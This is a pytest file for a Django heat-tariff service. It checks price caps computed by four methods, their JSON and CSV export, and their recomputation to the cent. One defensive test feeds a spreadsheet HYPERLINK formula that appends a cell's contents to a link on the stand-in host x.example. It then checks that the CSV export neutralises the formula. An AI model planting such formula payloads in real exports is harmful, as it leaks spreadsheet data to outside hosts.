"""Every cap method through the service: stored inputs and figures, exported as JSON and CSV,
recomputed from the export to the cent; index rebasing is price-neutral in stored caps."""

import csv
import datetime as dt
import io
import json
from decimal import Decimal as D

import pandas as pd
import pytest

from tariffs.models import ElectricityCharge, PriceCap, SpotPrice
from tariffs.services import (
    compute_cap_result,
    price_cap_compute,
    price_cap_export,
    price_cap_recompute,
)
from tests.customers.factories import NetworkFactory

pytestmark = pytest.mark.django_db
NOW = dt.datetime(2026, 2, 1, tzinfo=dt.UTC)
DAY = (dt.date(2026, 1, 5), dt.date(2026, 1, 6))


@pytest.fixture
def network():
    net = NetworkFactory(code="caps", price_area="DK2", currency="DKK")
    hours = pd.date_range(
        "2026-01-05", "2026-01-06", freq="h", inclusive="left", tz="Europe/Copenhagen"
    ).tz_convert("UTC")
    SpotPrice.objects.bulk_create(
        SpotPrice(
            price_area="DK2", hour_start=t.to_pydatetime(), price_per_mwh=D(-20 if i == 3 else 100)
        )
        for i, t in enumerate(hours)
    )
    for kind, amount in (("grid", "50"), ("system", "10"), ("tax", "5")):
        ElectricityCharge.objects.create(
            price_area="DK2", kind=kind, valid_from=dt.date(2026, 1, 1), amount_per_mwh=D(amount)
        )
    return net


INPUTS = {
    PriceCap.Method.COST_BASED: {
        "variable_costs": "6000000",
        "fixed_costs": "4000000",
        "over_recovery": "500000",
        "approved_return": "0",
        "forecast_sales_mwh": "50000",
        "connections": 1000,
        "contracted_kw_total": "12000",
    },
    PriceCap.Method.INDEXATION: {
        "clauses": [
            {
                "price": "energy",
                "base_price": "80",
                "a": "0.2",
                "cost_terms": [
                    {"name": "electricity", "weight": "0.5", "base": "100", "current": "120"}
                ],
                "market_term": {
                    "name": "destatis",
                    "weight": "0.3",
                    "base": "100",
                    "current": "110",
                },
            },
            {
                "price": "capacity",
                "base_price": "30",
                "a": "0.4",
                "cost_terms": [{"name": "wages", "weight": "0.4", "base": "100", "current": "105"}],
                "market_term": {
                    "name": "destatis",
                    "weight": "0.2",
                    "base": "100",
                    "current": "110",
                },
            },
            {
                "price": "meter",
                "base_price": "60",
                "a": "0.5",
                "cost_terms": [
                    {"name": "investment_goods", "weight": "0.3", "base": "100", "current": "103"}
                ],
                "market_term": {
                    "name": "destatis",
                    "weight": "0.2",
                    "base": "100",
                    "current": "110",
                },
            },
        ]
    },
    PriceCap.Method.MAXIMUM_PRICE: {
        "fixed_per_year_incl_vat": "512.37",
        "price_per_gj_incl_vat": "47.38",
    },
    PriceCap.Method.SUBSTITUTION: {
        "reference": {"energy_mwh": "2.4", "heated_area_m2": "130", "contracted_kw": "9"},
        "individual_scop": "3.0",
        "consumer_extra_per_mwh": "0",
        "investment": "0",
        "om_per_year": "0",
        "include_utility_tariffs": True,
    },
}
# worked out by hand:
#  cost-based: (6.0 M − 0.3 M) / 50,000 = 114.00/MWh; 3.8 M × 0.2 / 1,000 = 760.00; 3.8 M × 0.8 / 12,000 = 253.33/kW
#  indexation: energy 80 × (0.2 + 0.6 + 0.33) = 90.40; capacity 30 × (0.4 + 0.42 + 0.22) = 31.20;
#              meter 60 × (0.5 + 0.309 + 0.22) = 61.74
#  maximum price: 47.38 × 3.6 = 170.568 → 170.57/MWh incl. VAT; fixed 512.37
#  substitution: 2.4 MWh flat over 24 h at SCOP 3 = 1/30 MWh electricity per hour;
#              (23 × (100 + 65) + (−20 + 65)) / 30 = 3,840 / 30 = 128.00
EXPECTED = {
    PriceCap.Method.COST_BASED: {
        "energy_cap_per_mwh": "114.00",
        "fixed_cap_per_year": "760.00",
        "capacity_cap_per_kw": "253.33",
    },
    PriceCap.Method.INDEXATION: {
        "energy_cap_per_mwh": "90.40",
        "capacity_cap_per_kw": "31.20",
        "fixed_cap_per_year": "61.74",
    },
    PriceCap.Method.MAXIMUM_PRICE: {"energy_cap_per_mwh": "170.57", "fixed_cap_per_year": "512.37"},
    PriceCap.Method.SUBSTITUTION: {"reference_total_cap": "128.00"},
}


@pytest.mark.parametrize("method", list(INPUTS))
def test_each_method_is_stored_exported_and_recomputed_to_the_cent(network, method):
    cap = price_cap_compute(
        network=network,
        method=method,
        period_start=DAY[0],
        period_end=DAY[1],
        inputs=INPUTS[method],
        now=NOW,
    )
    limits = {
        k: v
        for k, v in json.loads(price_cap_export(cap=cap, fmt="json"))["limits"].items()
        if v is not None
    }
    assert limits == EXPECTED[method]
    assert price_cap_recompute(cap=cap) == {}
    # a regulator redoes it from the exported inputs alone
    exported = json.loads(price_cap_export(cap=cap, fmt="json"))
    again = compute_cap_result(
        method=exported["method"],
        currency=exported["currency"],
        inputs=exported["inputs"],
        network=network,
        period_start=DAY[0],
        period_end=DAY[1],
    )
    assert again.figures == exported["figures"]
    assert {
        k: format(v, "f")
        for k, v in {
            "energy_cap_per_mwh": again.limits.energy_per_mwh,
            "fixed_cap_per_year": again.limits.fixed_per_year,
            "capacity_cap_per_kw": again.limits.capacity_per_kw,
            "reference_total_cap": again.limits.reference_total,
        }.items()
        if v is not None
    } == EXPECTED[method]
    rows = list(csv.reader(io.StringIO(price_cap_export(cap=cap, fmt="csv"))))
    assert rows[0] == ["section", "name", "value"]
    assert {(r[1], r[2]) for r in rows if r[0] == "limits" and r[2]} == set(
        EXPECTED[method].items()
    )
    assert sum(1 for r in rows if r[0] == "figures") == len(cap.results) > 0


def test_substitution_without_the_utility_tariffs_uses_spot_only(network):
    inputs = {**INPUTS[PriceCap.Method.SUBSTITUTION], "include_utility_tariffs": False}
    cap = price_cap_compute(
        network=network,
        method=PriceCap.Method.SUBSTITUTION,
        period_start=DAY[0],
        period_end=DAY[1],
        inputs=inputs,
        now=NOW,
    )
    assert cap.reference_total_cap == D("76.00")  # (23 × 100 − 20) / 30
    assert D(cap.results["seasonal_cop"]) == 3


def test_rebasing_an_index_in_a_stored_cap_is_price_neutral(network):
    # the electricity series was rebased: 125 on the old base = 100 on the new one; K = 120 old = 96 new
    plain = INPUTS[PriceCap.Method.INDEXATION]["clauses"][0]
    rebased = {
        **plain,
        "cost_terms": [
            {
                "name": "electricity",
                "weight": "0.5",
                "base": "100",
                "current": "96",
                "rebase": {"old_at_link": "125", "new_at_link": "100"},
            }
        ],
    }
    a = price_cap_compute(
        network=network,
        method=PriceCap.Method.INDEXATION,
        period_start=DAY[0],
        period_end=DAY[1],
        inputs={"clauses": [plain]},
        now=NOW,
    )
    b = price_cap_compute(
        network=network,
        method=PriceCap.Method.INDEXATION,
        period_start=DAY[0],
        period_end=DAY[1],
        inputs={"clauses": [rebased]},
        now=NOW,
    )
    assert a.energy_cap_per_mwh == b.energy_cap_per_mwh == D("90.40")
    assert b.results["energy.electricity.base_before_rebase"] == "100"
    assert b.results["energy.electricity.base_rebased"] == "80"
    assert b.results["energy.factor"] == a.results["energy.factor"]
    assert price_cap_recompute(cap=b) == {}


def test_the_csv_export_is_one_cell_per_value_and_no_formula(network):
    """Index names are free text (up to 60 characters): the regulator's CSV wrote them as
    they were, so a name beginning with ``=`` was a formula to a spreadsheet and a comma
    in one moved the cells after it into new columns."""
    clause = INPUTS[PriceCap.Method.INDEXATION]["clauses"][0]
    formula = '=HYPERLINK("http://x.example/?"&A1,"go")'
    inputs = {
        "clauses": [
            {
                **clause,
                "cost_terms": [
                    {"name": "power, grid", "weight": "0.5", "base": "100", "current": "120"}
                ],
                "market_term": {**clause["market_term"], "name": formula},
            }
        ]
    }
    cap = price_cap_compute(
        network=network,
        method=PriceCap.Method.INDEXATION,
        period_start=DAY[0],
        period_end=DAY[1],
        inputs=inputs,
        now=NOW,
    )

    rows = list(csv.reader(io.StringIO(price_cap_export(cap=cap, fmt="csv"))))

    assert {len(row) for row in rows} == {3}
    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if cell.startswith(("=", "+", "@"))]
    assert ["inputs", "clauses.0.market_term.name", "'" + formula] in rows
    assert ["inputs", "clauses.0.cost_terms.0.name", "power, grid"] in rows
    assert ["figures", "energy.power, grid.weight", "0.5000000000"] in rows
    # numbers stay numbers, a negative one too
    assert ["limits", "energy_cap_per_mwh", format(cap.energy_cap_per_mwh, "f")] in rows


def test_an_index_from_another_networks_cost_run_is_refused(network):
    # K₀ and K of an electricity index are the average electricity price of two of the
    # network's own cost runs.  A run of another network (here in EUR: 100 EUR/MWh) against
    # this network's run (746 DKK/MWh) gave K/K₀ = 7.46 and an energy cap of
    # 80 × (0.2 + 0.5 × 7.46 + 0.3 × 1.1) = 340.80 DKK/MWh instead of a refusal.
    from tariffs.models import OperatingCost

    def run(net, cost, mwh):
        return OperatingCost.objects.create(
            network=net,
            period_start=dt.date(2025, 1, 1),
            period_end=dt.date(2025, 2, 1),
            computed_at=NOW,
            results={"figures": {"electricity_cost": cost, "electricity_mwh": mwh}},
            cost_per_mwh_produced=D(0),
            cost_per_mwh_sold=D(0),
        )

    other = NetworkFactory(code="eur", price_area="DE", currency="EUR")
    base, current = run(other, "1000.00", "10.000000"), run(network, "7460.00", "10.000000")
    inputs = {
        "clauses": [
            {
                "price": "energy",
                "base_price": "80",
                "a": "0.2",
                "cost_terms": [
                    {
                        "name": "electricity",
                        "weight": "0.5",
                        "base_cost_id": base.pk,
                        "current_cost_id": current.pk,
                    }
                ],
                "market_term": {
                    "name": "destatis",
                    "weight": "0.3",
                    "base": "100",
                    "current": "110",
                },
            }
        ]
    }
    from heatutility.errors import DomainError

    with pytest.raises(DomainError) as err:
        price_cap_compute(
            network=network,
            method=PriceCap.Method.INDEXATION,
            period_start=DAY[0],
            period_end=DAY[1],
            inputs=inputs,
            now=NOW,
        )
    assert [(e.code, e.field) for e in err.value.errors] == [
        ("wrong_network", "inputs.clauses.0.cost_terms.0.base_cost_id")
    ]
    assert not PriceCap.objects.exists()


def test_a_reference_customer_entered_as_json_numbers_is_read_as_written(network):
    # JSON numbers arrive as floats (DRF's JSON parser) and are stored so; the approval
    # check read them with Decimal(float), i.e. 15.7 as 15.699999999999999289…, and told the
    # regulator about a "reference customer 15.699999999999999289457264239899814128875732421875 MWh"
    from tariffs.services import (
        cap_limits,
        price_cap_adopt,
        tariff_version_cap_check,
        tariff_version_create,
    )
    from tests.tariffs.factories import TariffFactory

    inputs = {
        "reference": {
            "energy_mwh": 15.7,
            "heated_area_m2": 130,
            "contracted_kw": 9.05,
            "volume_m3": 300.3,
        },
        "individual_scop": "3.0",
        "include_utility_tariffs": True,
    }
    cap = price_cap_compute(
        network=network,
        method=PriceCap.Method.SUBSTITUTION,
        period_start=DAY[0],
        period_end=DAY[1],
        inputs=json.loads(json.dumps(inputs)),
        now=NOW,
    )
    reference = cap_limits(cap).reference
    assert (reference.energy_mwh, reference.contracted_kw, reference.volume_m3) == (
        D("15.7"),
        D("9.05"),
        D("300.3"),
    )
    price_cap_adopt(cap=cap, now=NOW)
    version = tariff_version_create(
        tariff=TariffFactory(network=network),
        valid_from=DAY[0],
        components=[{"type": "energy", "code": "energy", "unit": "MWh", "price": "1000"}],
    )
    _, (message,) = tariff_version_cap_check(version=version)
    assert (
        "(reference customer 15.7 MWh, 300.3 m³, 9.05 kW, 130 m²) 15700.00 DKK/year exceeds"
        in message
    )
